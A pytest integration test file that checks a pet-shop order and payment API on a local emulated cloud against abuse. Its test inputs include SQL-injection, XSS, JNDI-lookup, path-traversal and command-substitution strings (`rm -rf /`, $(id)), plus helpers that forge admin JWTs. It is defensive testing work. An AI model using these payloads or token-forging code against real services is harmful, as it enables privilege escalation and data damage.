"""Abuse of the real API on the local cloud: every owner route tried with another
shopper's token, an admin's, none, one signed with the key moto ships and a forged one,
and with ids of
things cancelled, deleted or never created; every internal (SigV4) route with tokens
instead of a signature; oversized and deeply nested bodies on every write of the saga;
unicode and injection-looking text stored and returned verbatim, never interpreted.

Covered elsewhere, not repeated here: the pets routes' bad input and authorization
(tests/integration/pets), Bob against Alice's order (tests/integration/saga), the
authorizers' token checks in isolation (tests/integration/localcloud/apigateway/test_api_auth.py),
and replayed and reordered events (test_saga_delivery_guarantees.py)."""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass
from typing import Any

import jwt
import pytest
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from moto.utilities.utils import load_resource

from support.api_client import ApiClient
from support.saga_http import (
    Shop,
    add_pet,
    notifications_of,
    payments_of,
    place_order,
    user_id_of,
    wait_for_status,
)

pytestmark = pytest.mark.integration

OVER_THE_BODY_LIMIT = 300 * 1024
"""Past the functions' 256 KiB body limit, well inside API Gateway's 10 MB."""
STRANGE_TEXT = [
    "Ñandú 🐦‍⬛ 名前 \u202eevil\u202c ' OR '1'='1' --",
    "<script>alert(1)</script> ${jndi:ldap://example.com/x} {{7*7}} %s %n",
    '"; DROP TABLE notifications; -- \\ \\" \x00 \u0007 \n\t\r \U0001f600',
    '{"$gt": ""} ../../etc/passwd a\u0301 \\u0000 `rm -rf /` $(id)',
]


@dataclass(frozen=True)
class World:
    """Alice's things, each in the state a case needs, and the ids of nothing."""

    alice: str
    confirmed_order: str
    payment: str
    cancelled_order: str
    order_for_the_admin: str
    pet: str
    deleted_pet: str
    unknown: str = str(uuid.uuid4())


@pytest.fixture(scope="module")
def world(shop: Shop) -> World:
    pet = add_pet(shop, stock=10)
    confirmed, cancelled, for_admin = (place_order(shop.alice, pet)["orderId"] for _ in range(3))
    for order_id in (confirmed, cancelled, for_admin):
        assert wait_for_status(shop.alice, order_id)["status"] == "CONFIRMED"
    assert shop.alice.put(f"/orders/{cancelled}/cancel").status_code == 200
    [payment] = payments_of(shop.alice, confirmed)
    deleted_pet = add_pet(shop, stock=1)
    assert shop.admin.delete(f"/pets/{deleted_pet}").status_code == 204
    return World(
        alice=user_id_of(shop.alice),
        confirmed_order=confirmed,
        payment=payment["paymentId"],
        cancelled_order=cancelled,
        order_for_the_admin=for_admin,
        pet=pet,
        deleted_pet=deleted_pet,
    )


def claims_of(client: ApiClient) -> dict[str, Any]:
    token = str(client._session.headers["Authorization"]).removeprefix("Bearer ")
    claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return claims


def bundled_key_token(shop: Shop) -> str:
    """Alice's claims with the admin group added, signed with the private key inside the
    moto package (which moto signs every pool's tokens with, and which anyone on the
    machine can read); the local pools sign with keys of their own."""
    claims = {**claims_of(shop.alice), "cognito:groups": ["admin"]}
    bundled_key = jwt.PyJWK(load_resource("cognitoidp/resources/jwks-private.json")).key
    return jwt.encode(claims, bundled_key, algorithm="RS256", headers={"kid": "dummy"})


def forged_token(shop: Shop) -> str:
    """Alice's claims with the admin group added, signed with a key of the forger's own."""
    claims = {**claims_of(shop.alice), "cognito:groups": ["admin"]}
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": "dummy"})


def callers(shop: Shop) -> dict[str, ApiClient]:
    region = shop.cloud.config.region
    return {
        "alice": shop.alice,
        "bob": shop.bob,
        "admin": shop.admin,
        "no token": shop.anonymous,
        "token of moto's key": ApiClient(shop.cloud.api_url, region, bundled_key_token(shop)),
        "forged token": ApiClient(shop.cloud.api_url, region, forged_token(shop)),
    }


def owner_route_cases(w: World) -> list[tuple[str, str, str, Any, int]]:
    """(caller, method, path, body, the status the design asks for)."""
    a, pay = w.confirmed_order, {"orderId": w.confirmed_order, "paymentToken": "tok_visa"}
    cases: list[tuple[str, str, str, Any, int]] = []
    for caller in ("no token", "token of moto's key", "forged token"):
        cases += [
            (caller, "GET", f"/orders/{a}", None, 401),
            (caller, "PUT", f"/orders/{a}/cancel", None, 401),
            (caller, "GET", f"/orders/user/{w.alice}", None, 401),
            (caller, "POST", "/payments", pay, 401),
            (caller, "GET", f"/payments/{w.payment}", None, 401),
            (caller, "GET", f"/payments/order/{a}", None, 401),
            (caller, "GET", f"/notifications/user/{w.alice}", None, 401),
            (caller, "POST", "/orders", {"petId": w.pet, "quantity": 1, "paymentToken": "t"}, 401),
        ]
    return [
        *cases,
        ("bob", "GET", f"/orders/{a}", None, 404),
        ("bob", "PUT", f"/orders/{a}/cancel", None, 404),
        ("bob", "GET", f"/orders/user/{w.alice}", None, 403),
        ("bob", "POST", "/payments", pay, 404),
        ("bob", "GET", f"/payments/{w.payment}", None, 404),
        ("bob", "GET", f"/payments/order/{a}", None, 404),
        ("bob", "GET", f"/notifications/user/{w.alice}", None, 403),
        ("admin", "GET", f"/orders/{a}", None, 200),
        ("admin", "PUT", f"/orders/{w.order_for_the_admin}/cancel", None, 200),
        ("admin", "GET", f"/orders/user/{w.alice}", None, 200),
        ("admin", "POST", "/payments", pay, 409),
        ("admin", "GET", f"/payments/{w.payment}", None, 200),
        ("admin", "GET", f"/payments/order/{a}", None, 200),
        ("admin", "GET", f"/notifications/user/{w.alice}", None, 200),
        ("admin", "GET", f"/orders/user/{w.unknown}", None, 200),
        ("alice", "GET", f"/orders/{w.unknown}", None, 404),
        ("alice", "PUT", f"/orders/{w.unknown}/cancel", None, 404),
        ("alice", "PUT", f"/orders/{w.cancelled_order}/cancel", None, 409),
        ("alice", "GET", f"/orders/user/{w.unknown}", None, 403),
        ("alice", "POST", "/payments", {"orderId": w.unknown, "paymentToken": "tok_visa"}, 404),
        (
            "alice",
            "POST",
            "/payments",
            {"orderId": w.cancelled_order, "paymentToken": "tok_visa"},
            409,
        ),
        ("alice", "GET", f"/payments/{w.unknown}", None, 404),
        ("alice", "GET", f"/payments/order/{w.unknown}", None, 404),
        ("alice", "GET", f"/notifications/user/{w.unknown}", None, 403),
        (
            "alice",
            "POST",
            "/orders",
            {"petId": w.deleted_pet, "quantity": 1, "paymentToken": "tok_visa"},
            404,
        ),
        (
            "alice",
            "POST",
            "/orders",
            {"petId": w.unknown, "quantity": 1, "paymentToken": "tok_visa"},
            404,
        ),
    ]


def test_every_owner_route_answers_each_caller_as_the_design_says(shop: Shop, world: World) -> None:
    clients = callers(shop)
    cases = owner_route_cases(world)

    answered = [
        clients[caller].request(method, path, body).status_code
        for caller, method, path, body, _ in cases
    ]

    wrong = [
        f"{caller} {method} {path} {body}: {status}, expected {expected}"
        for (caller, method, path, body, expected), status in zip(cases, answered, strict=True)
        if status != expected
    ]
    assert wrong == []
    assert len(cases) >= 50


def test_nothing_an_abuser_tried_changed_alices_order(shop: Shop, world: World) -> None:
    order = shop.alice.get(f"/orders/{world.confirmed_order}").json()

    assert order["status"] == "CONFIRMED"
    assert [p["status"] for p in payments_of(shop.alice, world.confirmed_order)] == ["SUCCEEDED"]


@pytest.mark.parametrize("caller", ["alice", "admin", "token of moto's key", "forged token"])
def test_internal_routes_refuse_every_token_in_place_of_a_signature(
    shop: Shop, world: World, caller: str
) -> None:
    client = callers(shop)[caller]
    notification = {"userId": world.alice, "subject": "Hi", "message": "Hello"}
    reservation = {"orderId": str(uuid.uuid4()), "quantity": 1}

    answers = [
        client.post("/notifications", notification),
        client.post(f"/pets/{world.pet}/decrementInventory", reservation),
    ]

    assert [answer.status_code for answer in answers] == [403, 403]
    # API Gateway's own refusal (no function ran): a token is not a signature.
    assert [answer.headers.get("x-amzn-ErrorType") for answer in answers] == [
        "IncompleteSignatureException"
    ] * 2


def saga_writes(shop: Shop, world: World) -> dict[str, Any]:
    """Each write of the saga's services: how to send it a raw body."""
    return {
        "POST /orders": lambda body: shop.alice.post("/orders", body),
        "POST /payments": lambda body: shop.alice.post("/payments", body),
        "POST /notifications": lambda body: signed_raw(shop, "/notifications", body),
    }


def signed_raw(shop: Shop, path: str, body: str) -> requests.Response:
    from localcloud.apigateway.authorizers.sigv4 import sign_request
    from localcloud.emulator.process import LOCAL_CREDENTIALS

    url = f"{shop.cloud.api_url}{path}"
    headers = sign_request(
        "POST",
        url,
        body.encode(),
        {"Content-Type": "application/json"},
        access_key=LOCAL_CREDENTIALS["AWS_ACCESS_KEY_ID"],
        secret_key=LOCAL_CREDENTIALS["AWS_SECRET_ACCESS_KEY"],
        region=shop.cloud.config.region,
    )
    return requests.post(url, data=body.encode(), headers=headers, timeout=30)


@pytest.mark.parametrize("route", ["POST /orders", "POST /payments", "POST /notifications"])
def test_an_oversized_body_is_413_on_every_saga_write(shop: Shop, world: World, route: str) -> None:
    body = json.dumps({"padding": "x" * OVER_THE_BODY_LIMIT})

    answer = saga_writes(shop, world)[route](body)

    assert answer.status_code == 413, answer.text
    assert answer.json()["error"]["code"] == "PayloadTooLarge"


@pytest.mark.parametrize("route", ["POST /orders", "POST /payments", "POST /notifications"])
def test_json_nested_past_the_parsers_depth_is_400_on_every_saga_write(
    shop: Shop, world: World, route: str
) -> None:
    body = "[" * 60_000 + "]" * 60_000

    answer = saga_writes(shop, world)[route](body)

    assert answer.status_code == 400, answer.text
    assert answer.json()["error"]["code"] == "MalformedJson"


@pytest.mark.parametrize(
    ("route", "field", "body"),
    [
        ("POST /orders", "petId", {"petId": [[[["x"]]]], "quantity": 1, "paymentToken": "t"}),
        ("POST /payments", "orderId", {"orderId": {"a": {"b": {"c": 1}}}, "paymentToken": "t"}),
        (
            "POST /notifications",
            "subject",
            {"userId": "u", "subject": [[[["Hi"]]]], "message": "m"},
        ),
    ],
)
def test_nesting_where_text_belongs_is_422_naming_the_field(
    shop: Shop, world: World, route: str, field: str, body: dict[str, Any]
) -> None:
    answer = saga_writes(shop, world)[route](json.dumps(body))

    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["field"] == field


def test_strange_text_in_a_notification_is_stored_and_returned_verbatim(
    shop: Shop, world: World
) -> None:
    bob = user_id_of(shop.bob)
    for text in STRANGE_TEXT:
        body = json.dumps({"userId": bob, "subject": text[:200], "message": text})
        assert signed_raw(shop, "/notifications", body).status_code == 201

    stored = {(n["subject"], n["message"]) for n in notifications_of(shop.bob, bob)}

    assert {(text[:200], text) for text in STRANGE_TEXT} <= stored


@pytest.mark.parametrize(
    ("method", "path", "body", "expected"),
    [
        ("GET", "/orders/' OR '1'='1", None, 404),
        ("GET", "/orders/%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", None, 404),
        ("GET", "/payments/..%2F..%2Fetc%2Fpasswd", None, 404),
        ("GET", "/payments/order/%F0%9F%90%B6", None, 404),
        ("GET", "/orders/user/' OR '1'='1", None, 403),
        ("GET", "/notifications/user/%3Cscript%3E", None, 403),
        ("POST", "/orders", {"petId": "' OR '1'='1", "quantity": 1, "paymentToken": "t"}, 404),
        ("POST", "/orders", {"petId": "p", "quantity": 1, "paymentToken": "x'; DROP--"}, 422),
        ("POST", "/payments", {"orderId": '{"$gt": ""}', "paymentToken": "tok_visa"}, 404),
    ],
)
def test_injection_looking_ids_and_tokens_are_just_not_found_or_refused(
    shop: Shop, method: str, path: str, body: Any, expected: int
) -> None:
    answer = shop.alice.request(method, path, body)

    assert answer.status_code == expected, answer.text
    assert "error" in answer.json()


def test_an_injection_looking_idempotency_key_is_refused_naming_the_header(
    shop: Shop, world: World
) -> None:
    answer = shop.alice.post(
        "/orders",
        {"petId": world.pet, "quantity": 1, "paymentToken": "tok_visa"},
        headers={"Idempotency-Key": "'; DROP TABLE orders; --"},
    )

    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["field"].lower() == "idempotency-key"


@pytest.mark.parametrize(
    ("route", "field", "body"),
    [
        ("POST /orders", "petId", '{"petId": "\\ud800", "quantity": 1, "paymentToken": "t"}'),
        ("POST /notifications", "subject", '{"userId": "u", "subject": "\\udfff", "message": "m"}'),
    ],
)
def test_a_lone_surrogate_is_refused_naming_the_field(
    shop: Shop, world: World, route: str, field: str, body: str
) -> None:
    answer = saga_writes(shop, world)[route](body)

    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["field"] == field
